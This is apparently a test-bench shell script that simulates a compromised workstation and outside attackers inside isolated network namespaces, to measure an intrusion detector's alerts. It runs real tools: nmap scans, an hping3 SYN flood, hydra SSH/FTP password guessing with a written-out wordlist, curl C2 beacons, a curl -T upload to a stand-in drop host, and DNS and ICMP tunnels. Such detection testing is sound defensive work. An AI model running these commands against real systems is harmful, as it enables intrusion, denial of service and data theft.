#!/usr/bin/env bash
# Every detector against real programs from Debian, between two network namespaces made here, captured at
# the site's edge with tcpdump and run through `vigil analyze`. See docs/detection.md for the table this
# makes. Needs root and: nmap hping3 hydra iodine dnsmasq openssh-server sshpass tcpdump chrony dnsutils
# python3-pyftpdlib openssl curl ptunnel-ng iputils-ping ffmpeg (the script stops at once, naming what to install,
# when one is missing).
#
# Network hygiene: two namespaces joined by one veth pair and nothing else, so no packet can leave them;
# every tool is bounded in count and time; everything is killed and the namespaces removed at the end,
# also on failure or Ctrl-C. Outside is 198.51.100.0/24 and 203.0.113.0/24 (documentation blocks), the
# site is 10.99.0.0/24.
#
#   site (vt-site)                                   outside (vt-out)
#   10.99.0.10  server: sshd :22 :2222, ftp :21      198.51.100.66-70  attackers (nmap, hping3, hydra)
#               :2121, http :80, TLS 1.0 :8443       198.51.100.80-84  web sites (HTTPS) the staff browse
#   10.99.0.20  the compromised workstation          198.51.100.90     package mirror (HTTP)
#   10.99.0.21-24  ordinary workstations (benign)    198.51.100.53     the resolver everyone uses (dnsmasq)
#   10.99.0.30  a host that appears mid-trial        198.51.100.123    NTP server (chronyd)
#   198.51.100.1  the site's edge address            203.0.113.11-15   C2 servers (HTTPS)
#                                                    203.0.113.16      an ICMP tunnel's proxy (ptunnel-ng)
#                                                    203.0.113.17      a slow C2 server (HTTPS, every 50 s)
#                                                    203.0.113.18      C2 over one kept-open HTTPS connection
#                                                    203.0.113.19      a TLS 1.0 server held open 3 minutes
#                                                    198.51.100.86/87  a video stream (HLS) and a call (RTP)
#                                                    203.0.113.53/54   iodined / a dnscat-style server
#                                                    203.0.113.30-35   FTP and TLS 1.0/1.1 servers outside
#                                                    203.0.113.200     the drop for the upload
set -euo pipefail
root="$(cd "$(dirname "$0")/.." && pwd)"
here="$root/bench/trial"
out="${1:-$root/target/trial}"
minutes="${TRIAL_MINUTES:-30}"
S=vt-site O=vt-out

. "$root/bench/trial/netns.sh"

# --- the two namespaces and the wire between them -------------------------------------------------------
trial_needs nmap:nmap hping3:hping3 hydra:hydra iodine:iodined dnsmasq:dnsmasq openssh-server:sshd sshpass:sshpass \
  tcpdump:tcpdump chrony:chronyd dnsutils:dig python3-pyftpdlib:python3.pyftpdlib openssl:openssl curl:curl \
  ptunnel-ng:ptunnel-ng iputils-ping:ping ffmpeg:ffmpeg
netns_pair veth-site veth-out
for a in 10.99.0.10 10.99.0.20 10.99.0.21 10.99.0.22 10.99.0.23 10.99.0.24 10.99.0.30; do
  ip -n $S addr add $a/24 dev veth-site
done
ip -n $S addr add 198.51.100.1/32 dev veth-site
for a in 66 67 68 69 70 80 81 82 83 84 86 87 90 53 123 2; do ip -n $O addr add 198.51.100.$a/24 dev veth-out; done
for a in 11 12 13 14 15 16 17 18 19 30 31 32 33 34 35 53 54 200; do ip -n $O addr add 203.0.113.$a/24 dev veth-out; done
ip -n $S route add 198.51.100.0/24 dev veth-site
ip -n $S route add 203.0.113.0/24 dev veth-site
# The compromised workstation is the one that talks to the ICMP tunnel's proxy (ptunnel-ng cannot choose its address).
ip -n $S route add 203.0.113.16/32 dev veth-site src 10.99.0.20
# Likewise for the tools that cannot choose theirs: openssl s_client (10.99.0.30), ffmpeg's player and call (.22, .23).
ip -n $S route add 203.0.113.19/32 dev veth-site src 10.99.0.30
ip -n $S route add 198.51.100.86/32 dev veth-site src 10.99.0.22
ip -n $S route add 198.51.100.87/32 dev veth-site src 10.99.0.23
# The outside reaches the site through its edge address, as through a gateway (so probes of absent hosts are seen).
ip -n $O route add 10.99.0.0/24 via 198.51.100.1
# The call's far end answers from the address it is called on (one conversation, as a softphone's).
ip -n $O route add 10.99.0.23/32 via 198.51.100.1 src 198.51.100.87
# ptunnel-ng's proxy writes its replies on a raw socket without an address: have them leave from the one it is
# pinged on, as on a proxy with one address (the first trial saw them leave from 198.51.100.66, see docs/detection.md).
ip -n $O route add 10.99.0.20/32 via 198.51.100.1 src 203.0.113.16

# --- servers ---------------------------------------------------------------------------------------------
openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=trial.example -keyout "$out/key.pem" \
  -out "$out/cert.pem" 2>/dev/null
mkdir -p /run/sshd
[ -f /etc/ssh/ssh_host_ed25519_key ] || ssh-keygen -A >/dev/null
in_s /usr/sbin/sshd -p 22 -p 2222 -o ListenAddress=10.99.0.10 -o PasswordAuthentication=yes -o MaxStartups=100 \
  -o PerSourcePenalties=no -o LogLevel=QUIET 2>/dev/null \
  || in_s /usr/sbin/sshd -p 22 -p 2222 -o ListenAddress=10.99.0.10 -o PasswordAuthentication=yes -o MaxStartups=100 -o LogLevel=QUIET
mkdir -p "$out/ftp"
for p in 21 2121; do
  in_s timeout $((minutes * 60 + 300)) $PY -m pyftpdlib -i 10.99.0.10 -p $p -u nurse -P 'Winter2026' -d "$out/ftp" \
    >/dev/null 2>&1 &
done
in_o timeout $((minutes * 60 + 300)) $PY -m pyftpdlib -i 203.0.113.30 -p 21 -u supplier -P 'Supplier1' -d "$out/ftp" \
  >/dev/null 2>&1 &
in_s timeout $((minutes * 60 + 300)) $PY "$here/web.py" - - 80 10.99.0.10 >/dev/null 2>&1 &
in_o timeout $((minutes * 60 + 300)) $PY "$here/web.py" "$out/cert.pem" "$out/key.pem" 443 198.51.100.80 198.51.100.81 \
  198.51.100.82 198.51.100.83 198.51.100.84 203.0.113.11 203.0.113.12 203.0.113.13 203.0.113.14 203.0.113.15 \
  203.0.113.17 203.0.113.18 203.0.113.200 >/dev/null 2>&1 &
in_o timeout $((minutes * 60 + 300)) openssl s_server -quiet -accept 203.0.113.19:443 -tls1 -cipher 'DEFAULT:@SECLEVEL=0' \
  -cert "$out/cert.pem" -key "$out/key.pem" </dev/null >/dev/null 2>&1 &
# A video for the ordinary day: five minutes of HLS (4 s segments, 1.5 Mbit/s), served over HTTP/1.1 keep-alive.
mkdir -p "$out/hls"
ffmpeg -loglevel error -f lavfi -i testsrc=size=640x360:rate=25 -t 300 -c:v libx264 -preset ultrafast -b:v 1500k \
  -g 100 -hls_time 4 -hls_list_size 0 -f hls "$out/hls/stream.m3u8"
in_o timeout $((minutes * 60 + 300)) $PY -m http.server 80 --bind 198.51.100.86 --protocol HTTP/1.1 \
  --directory "$out/hls" >/dev/null 2>&1 &
in_o timeout $((minutes * 60 + 300)) $PY "$here/web.py" - - 80 198.51.100.90 >/dev/null 2>&1 &
# Old TLS: the site serves TLS 1.0 on 8443; five outside suppliers speak only TLS 1.0 or 1.1.
in_s timeout $((minutes * 60 + 300)) openssl s_server -quiet -accept 10.99.0.10:8443 -tls1 -cipher 'DEFAULT:@SECLEVEL=0' \
  -cert "$out/cert.pem" -key "$out/key.pem" -www >/dev/null 2>&1 &
for i in 31 32 33 34 35; do
  v=-tls1; [ $i -gt 33 ] && v=-tls1_1
  in_o timeout $((minutes * 60 + 300)) openssl s_server -quiet -accept 203.0.113.$i:443 $v -cipher 'DEFAULT:@SECLEVEL=0' \
    -cert "$out/cert.pem" -key "$out/key.pem" -www >/dev/null 2>&1 &
done
# The resolver the site uses (its ISP's, outside), forwarding the tunnel domains to the attacker's servers.
in_o timeout $((minutes * 60 + 300)) dnsmasq -k -C /dev/null --no-resolv --no-hosts --listen-address=198.51.100.53 \
  --bind-interfaces --port=53 --user=root --pid-file="$out/dnsmasq.pid" \
  --server=/tun.example/203.0.113.53 --server=/tun2.example/203.0.113.54 \
  --address=/nhs-example.org/198.51.100.80 --address=/care-example.net/198.51.100.81 \
  --address=/news-example.com/198.51.100.82 --address=/shop-example.com/198.51.100.83 \
  --address=/cdn-example.net/198.51.100.84 --address=/mirror-example.org/198.51.100.90 >/dev/null 2>&1 &
in_o timeout $((minutes * 60 + 300)) iodined -f -c -l 203.0.113.53 -P trialsecret 10.53.0.1 tun.example >/dev/null 2>&1 &
in_o timeout $((minutes * 60 + 300)) $PY "$here/dnsecho.py" 203.0.113.54 >/dev/null 2>&1 &
# ptunnel-ng's proxy forwards only to a web server on its own loopback, which holds one file.
mkdir -p "$out/tunnel"
head -c 200K /dev/urandom >"$out/tunnel/file.bin"
in_o timeout $((minutes * 60 + 300)) $PY -m http.server 8000 --bind 127.0.0.1 --directory "$out/tunnel" >/dev/null 2>&1 &
in_o timeout $((minutes * 60 + 300)) ptunnel-ng -r127.0.0.1 -R8000 -v -1 >/dev/null 2>&1 &
mkdir -p "$out/chrony"
cat >"$out/chrony/server.conf" <<EOF
bindaddress 198.51.100.123
allow all
local stratum 8
cmdport 0
pidfile $out/chrony/server.pid
EOF
cat >"$out/chrony/client.conf" <<EOF
server 198.51.100.123 iburst minpoll 5 maxpoll 6
bindacqaddress 10.99.0.21
cmdport 0
pidfile $out/chrony/client.pid
EOF
in_o timeout $((minutes * 60 + 300)) chronyd -d -x -f "$out/chrony/server.conf" >/dev/null 2>&1 &
sleep 2

# --- capture at the edge: everything, and the ordinary workstations alone -----------------------------
ip netns exec $S timeout $((minutes * 60 + 240)) tcpdump -i veth-site -s 256 -B 65536 -w "$out/trial.pcap" -c 3000000 not arp 2>/dev/null &
dump=$!
ip netns exec $S timeout $((minutes * 60 + 240)) tcpdump -i veth-site -s 256 -B 16384 -w "$out/benign.pcap" -c 2000000 \
  'not arp and (host 10.99.0.21 or host 10.99.0.22 or host 10.99.0.23 or host 10.99.0.24)' 2>/dev/null &
dump2=$!
sleep 2
start=$(now)
mark begin "trial of $minutes minutes"

# --- the ordinary day, all the trial long, on 10.99.0.21-24 ------------------------------------------------
in_s timeout $((minutes * 60)) chronyd -d -x -f "$out/chrony/client.conf" >/dev/null 2>&1 &
for h in 21 22 23 24; do
  (
    end=$(( $(date +%s) + minutes * 60 ))
    sites=(www.nhs-example.org portal.care-example.net news-example.com shop-example.com static.cdn-example.net)
    while [ "$(date +%s)" -lt $end ]; do
      s=${sites[$((RANDOM % 5))]}
      sub=$((RANDOM % 40))
      ip=$(in_s dig +short +time=2 +tries=1 -b 10.99.0.$h @198.51.100.53 "p$sub.$s" A 2>/dev/null | tail -1)
      [ -n "$ip" ] || ip=198.51.100.80
      for r in $(seq 1 $((1 + RANDOM % 5))); do
        in_s timeout 10 curl -sk --interface 10.99.0.$h -o /dev/null --resolve "p$sub.$s:443:$ip" \
          "https://p$sub.$s/page/$r" || true
      done
      # sometimes a ping to the site just visited, and a path-MTU probe (full-size, don't fragment)
      if [ $((RANDOM % 6)) -eq 0 ]; then
        in_s timeout 5 ping -q -c 3 -i 0.5 -I 10.99.0.$h "$ip" >/dev/null 2>&1 || true
        in_s timeout 5 ping -q -c 2 -M do -s 1472 -I 10.99.0.$h "$ip" >/dev/null 2>&1 || true
      fi
      # updates: sometimes a package index and a package from the mirror
      if [ $((RANDOM % 25)) -eq 0 ]; then
        in_s timeout 30 curl -s --interface 10.99.0.$h -o /dev/null http://198.51.100.90/size/$((200000 + RANDOM * 100)) || true
      fi
      # a person reads: 1 s to a few minutes, mostly tens of seconds
      sleep "$($PY -c 'import random; print(round(min(240, random.lognormvariate(2.6, 1.1)), 1))')"
    done
  ) &
done

# A workstation watches a video (ffmpeg plays the HLS stream at its own pace), another takes a call: G.711 over RTP
# both ways for five minutes, as a softphone sends it.
(sleep 60; in_s timeout 330 ffmpeg -loglevel error -re -i http://198.51.100.86/stream.m3u8 -c copy -f null - \
  >/dev/null 2>&1) &
(sleep 90
 in_o timeout 310 ffmpeg -loglevel error -re -f lavfi -i sine=frequency=440:duration=300 -c:a pcm_mulaw -ar 8000 -ac 1 \
   -f rtp "rtp://10.99.0.23:5004?localport=5004" >/dev/null 2>&1 &
 in_s timeout 310 ffmpeg -loglevel error -re -f lavfi -i sine=frequency=330:duration=300 -c:a pcm_mulaw -ar 8000 -ac 1 \
   -f rtp "rtp://198.51.100.87:5004?localport=5004" >/dev/null 2>&1) &

# --- C2 beacons from the compromised workstation, all the trial long ---------------------------------------
beacon() { # peer period jitter(share) count
  (
    for i in $(seq 1 "$4"); do
      in_s timeout 5 curl -sk --interface 10.99.0.20 -o /dev/null "https://$1/c2/check-in" || true
      sleep "$($PY -c "import random; print(round($2 * (1 - $3 + 2 * $3 * random.random()), 2))")"
    done
  ) &
}
mark beacon-1s "curl HTTPS to 203.0.113.11 every 1 s ±10%, 200 times"
beacon 203.0.113.11 1 0.1 200
mark beacon-2-3s "curl HTTPS to 203.0.113.12 every 2-3 s, 100 times"
beacon 203.0.113.12 2.5 0.2 100
mark beacon-5s "curl HTTPS to 203.0.113.13 every 5 s ±25%, 80 times"
beacon 203.0.113.13 5 0.25 80
mark beacon-30s "curl HTTPS to 203.0.113.14 every 30 s ±15%, 40 times"
beacon 203.0.113.14 30 0.15 40
mark beacon-2min "curl HTTPS to 203.0.113.15 every 2 min ±20%, $((minutes / 2)) times"
beacon 203.0.113.15 120 0.2 $((minutes / 2))
mark beacon-50s-rare "curl HTTPS to 203.0.113.17 every 50 s ±10%, 10 times (a peer no other host uses)"
beacon 203.0.113.17 50 0.1 10
sleep 50

# --- attacks, one after another ------------------------------------------------------------------------
mark nmap-tcp "nmap -sS -p 1-1000 -T4 10.99.0.10 from 198.51.100.66"
in_o timeout 60 nmap -n -Pn -sS -p 1-1000 --max-retries 1 -T4 -S 198.51.100.66 -e veth-out 10.99.0.10 >"$out/nmap-tcp.txt" 2>&1 || true
sleep 15
mark nmap-udp "nmap -sU --top-ports 100 10.99.0.10 from 198.51.100.67"
in_o timeout 120 nmap -n -Pn -sU --top-ports 100 --max-retries 1 -T4 -S 198.51.100.67 -e veth-out 10.99.0.10 >"$out/nmap-udp.txt" 2>&1 || true
sleep 15
mark nmap-sweep "nmap -sS -p 445 10.99.0.1-60 from 198.51.100.68"
in_o timeout 60 nmap -n -Pn -sS -p 445 --max-retries 0 -T4 -S 198.51.100.68 -e veth-out 10.99.0.1-60 >"$out/nmap-sweep.txt" 2>&1 || true
sleep 15
mark hping3 "hping3 -S -p 80 --rand-source, 37000 SYNs in 10 s to 10.99.0.10"
in_o timeout 30 hping3 -q -S -p 80 --rand-source -c 37000 -i u270 10.99.0.10 >"$out/hping3.txt" 2>&1 || true
sleep 20
printf '%s\n' admin root nurse password 123456 letmein Summer2026 qwerty welcome1 changeme \
  monkey dragon abc123 iloveyou sunshine princess football admin123 hospital clinic \
  passw0rd trustno1 master hello login starwars whatever shadow michael superman >"$out/words.txt"
# hydra SERVICE PORT USER WHAT: four guessing threads against the web server, two minutes at most
hydra_at() {
  mark "hydra-$1-$2" "$4"
  in_o timeout 120 hydra -I -t 4 -l "$3" -P "$out/words.txt" -s "$2" 10.99.0.10 "$1" >"$out/hydra-$1$2.txt" 2>&1 || true
  sleep 10
}
hydra_at ssh 22 admin "hydra -t 4 ssh://10.99.0.10:22, 30 passwords, from 198.51.100.69"
hydra_at ssh 2222 admin "hydra -t 4 ssh on the odd port 2222"
hydra_at ftp 21 nurse "hydra -t 4 ftp://10.99.0.10:21"
hydra_at ftp 2121 nurse "hydra -t 4 ftp on the odd port 2121"
mark ftp-login "curl: the workstation logs in to an outside FTP server in the clear"
in_s timeout 20 curl -s --interface 10.99.0.20 -o /dev/null "ftp://supplier:Supplier1@203.0.113.30/" || true
sleep 5
mark tls-old "curl TLS 1.0/1.1 to five suppliers; an outside client to the site's TLS 1.0 service"
for i in 31 32 33 34 35; do
  in_s timeout 10 curl -sk --interface 10.99.0.20 --tls-max 1.1 --tlsv1.0 --ciphers 'DEFAULT:@SECLEVEL=0' -o /dev/null \
    "https://203.0.113.$i/" || true
done
in_o timeout 10 openssl s_client -quiet -connect 10.99.0.10:8443 -tls1 -cipher 'DEFAULT:@SECLEVEL=0' </dev/null >/dev/null 2>&1 || true
sleep 20
mark new-host "10.99.0.30 appears: a few ordinary requests"
for i in 1 2 3; do in_s timeout 10 curl -sk --interface 10.99.0.30 -o /dev/null https://198.51.100.80/page/$i || true; sleep 20; done
head -c 100M /dev/urandom >"$out/upload.bin"
mark upload "curl -T 100 MB over HTTPS from 10.99.0.30 to 203.0.113.200, new to the site"
in_s timeout 120 curl -sk --interface 10.99.0.30 -T "$out/upload.bin" -o /dev/null https://203.0.113.200/upload || true
rm -f "$out/upload.bin"
sleep 20
mark iodine "iodine through the resolver (NULL queries), 60 s of ping through the tunnel"
in_s timeout 120 iodine -f -r -P trialsecret 198.51.100.53 tun.example >"$out/iodine.txt" 2>&1 &
iod=$!
sleep 8
in_s timeout 70 ping -c 120 -i 0.5 -s 400 10.53.0.1 >"$out/iodine-ping.txt" 2>&1 || true
kill $iod 2>/dev/null || true
sleep 10
mark dnscat-resolver "dnscat-style: 400 hex names under tun2.example through the resolver, one socket"
in_s timeout 120 $PY "$here/dnscat.py" 10.99.0.20 198.51.100.53 tun2.example 400 0.2 || true
sleep 10
mark dnscat-direct "dnscat-style direct: 400 dnscat.<hex> names straight to 203.0.113.54, one socket"
in_s timeout 120 $PY "$here/dnscat.py" 10.99.0.20 203.0.113.54 - 400 0.2 || true

sleep 10
mark icmp-tunnel "ptunnel-ng: 12 fetches of 200 KB through an ICMP proxy at 203.0.113.16, 5 s apart"
in_s timeout 150 ptunnel-ng -p203.0.113.16 -l8001 -r127.0.0.1 -R8000 -v -1 >/dev/null 2>&1 &
ptun=$!
sleep 2
for i in $(seq 1 12); do
  in_s timeout 20 curl -s -o /dev/null http://127.0.0.1:8001/file.bin || true
  sleep 5
done
kill $ptun 2>/dev/null || true
mark inflow-beacon "an implant keeps one HTTPS connection to 203.0.113.18 open, checking in every 20 s ±15%, 15 times"
in_s timeout 420 $PY "$here/keepalive.py" 10.99.0.20 203.0.113.18 20 0.15 15 >/dev/null 2>&1 &
mark tls10-long "openssl s_client: 10.99.0.30 holds a TLS 1.0 connection to 203.0.113.19 open for 3 minutes"
(sleep 180 | in_s timeout 200 openssl s_client -quiet -connect 203.0.113.19:443 -tls1 -cipher 'DEFAULT:@SECLEVEL=0' \
  >/dev/null 2>&1) &
sleep 5
mark pings "a workstation's ordinary pings: 20 at 1 s, 5 path-MTU probes, a flood of 2000 (-f) to 198.51.100.80"
in_s timeout 30 ping -q -c 20 -I 10.99.0.20 198.51.100.80 >/dev/null 2>&1 || true
in_s timeout 10 ping -q -c 5 -M do -s 1472 -I 10.99.0.20 198.51.100.80 >/dev/null 2>&1 || true
in_s timeout 30 ping -q -f -c 2000 -s 1400 -I 10.99.0.20 198.51.100.80 >/dev/null 2>&1 || true

# --- the rest of the trial: beacons and the ordinary day go on until its end -----------------------------
left=$(( start / 1000 + minutes * 60 - $(date +%s) ))
[ $left -gt 0 ] && { echo "trial: attacks done; $left s of ordinary traffic and beacons left"; sleep $left; }
mark end "trial over"
sleep 8   # the last flows end (handshake timeout)
# timeout passes the signal on to tcpdump, which writes what it holds and exits
kill -INT $dump $dump2 2>/dev/null || true
wait $dump $dump2 2>/dev/null || true
pkill -P $$ 2>/dev/null || true
echo "trial: capture $(tcpdump -nr "$out/trial.pcap" 2>/dev/null | wc -l) packets in $out/trial.pcap"
"$root/bin/vigil" analyze -q --internal 10.99.0.0/24 --site lab --out "$out/alerts.jsonl" "$out/trial.pcap"
"$root/bin/vigil" analyze -q --internal 10.99.0.0/24 --site lab --out "$out/benign-alerts.jsonl" "$out/benign.pcap"
$PY "$here/table.py" "$out"
